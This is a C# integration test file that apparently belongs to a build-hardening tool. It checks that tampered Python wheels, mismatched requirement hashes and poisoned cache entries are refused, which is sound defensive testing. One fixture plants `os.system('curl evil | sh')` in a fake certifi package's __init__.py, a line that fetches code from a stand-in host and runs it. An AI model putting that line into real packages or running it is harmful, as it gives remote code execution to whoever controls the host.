using HardenImage.Common;
using HardenImage.Python;

namespace HardenImage.Tests.Python;

/// <summary>
/// Threat T (tampering): every wheel is pinned by SHA-256 from the requirements to the lock to the cache. A served
/// wheel whose bytes differ, a requirement hash that matches nothing, and an index that advertises the pinned hash
/// but serves other bytes are each refused with the reason, and the previous pylock.toml and the cache stay as they were.
/// </summary>
[Trait("Category", "Integration")]
public sealed class WheelHashTamperingTests
{
    [Fact]
    public async Task Lock_RefusesAnIndexLyingAboutHashes_AndCachesNothing()
    {
        using var ws = new PythonImageSet();
        await ws.LockAsync(ws.Write(ws.StandardRequirements));
        var before = File.ReadAllText(ws.PylockPath);
        Directory.Delete(Path.Combine(ws.Cache, "wheels"), recursive: true);
        // The index keeps advertising the pinned hash, but serves other bytes (a compromised mirror).
        var evil = new WheelBuilder("certifi", "2023.5.7").File("certifi/__init__.py", "import os; os.system('curl evil | sh')\n").Build();
        ws.Public.Replace(ws.Certifi.FileName, evil);
        var set = ws.Write(ws.StandardRequirements + "# touched\n");

        var e = await Assert.ThrowsAsync<HardenException>(() => ws.LockAsync(set));
        Assert.Contains($"served bytes with SHA-256 {WheelBuilder.Sha256(evil)}, but the lock pins {WheelBuilder.Sha256(ws.Certifi.Build())}", e.Message);
        Assert.Contains("an index lying about its hashes", e.Message);
        Assert.Equal(before, File.ReadAllText(ws.PylockPath));
        Assert.Empty(Directory.GetFiles(Path.Combine(ws.Cache, "wheels")));
    }

    [Fact]
    public async Task Lock_RefusesARequirementHashThatNoWheelHas()
    {
        using var ws = new PythonImageSet();
        var wrong = ws.StandardRequirements.Replace(WheelBuilder.Sha256(ws.Certifi.Build()), new string('e', 64));
        var e = await Assert.ThrowsAsync<HardenException>(() => ws.LockAsync(ws.Write(wrong)));
        Assert.Contains("requirements.txt:1: no wheel of certifi==2023.5.7 fits app (amd64", e.Message);
        Assert.Contains($"its sha256 {WheelBuilder.Sha256(ws.Certifi.Build())} is not among the requirement's hashes", e.Message);
        Assert.False(File.Exists(ws.PylockPath));
    }

    [Fact]
    public async Task Fetch_RefusesATamperedWheel_WhoseBytesDifferFromTheLock()
    {
        using var ws = new PythonImageSet();
        var set = ws.Write(ws.StandardRequirements);
        await ws.LockAsync(set);
        Directory.Delete(Path.Combine(ws.Cache, "wheels"), recursive: true);
        // After locking, the file on the index is swapped (advertised hash now tells the truth: the lock still wins).
        var tampered = ws.HiExt["amd64"].Build();
        tampered[^30] ^= 0xff;
        ws.Private.Replace(ws.HiExt["amd64"].FileName, tampered);
        ws.Private.Add(new IndexedFile("unused", "unused", [])); // keeps the server's list non-trivial
        using var http = new HttpClient();
        var e = await Assert.ThrowsAsync<HardenException>(() => PythonStage.FetchAsync(set, ["app"], ws.Cache, http, PythonImageSet.Environment));
        Assert.Contains($"{ws.HiExt["amd64"].FileName}: http://127.0.0.1", e.Message);
        Assert.Contains($"but the lock pins {WheelBuilder.Sha256(ws.HiExt["amd64"].Build())}", e.Message);
        Assert.False(File.Exists(new WheelCache(ws.Cache).PathFor(WheelBuilder.Sha256(tampered))));
        Assert.False(File.Exists(new WheelCache(ws.Cache).PathFor(WheelBuilder.Sha256(ws.HiExt["amd64"].Build()))));
    }

    [Fact]
    public async Task Cache_EvictsAWheelAlteredOnDisk_AndFetchesTheLockedBytesAgain()
    {
        using var ws = new PythonImageSet();
        var set = ws.Write(ws.StandardRequirements);
        await ws.LockAsync(set);
        var cache = new WheelCache(ws.Cache);
        var sha = WheelBuilder.Sha256(ws.Certifi.Build());
        File.WriteAllText(cache.PathFor(sha), "poisoned cache entry");
        Assert.Null(cache.TryGet(sha));
        using var http = new HttpClient();
        await PythonStage.FetchAsync(set, ["app"], ws.Cache, http, PythonImageSet.Environment);
        Assert.Equal(sha, Sha256Hex.OfFile(cache.PathFor(sha)));
    }
}
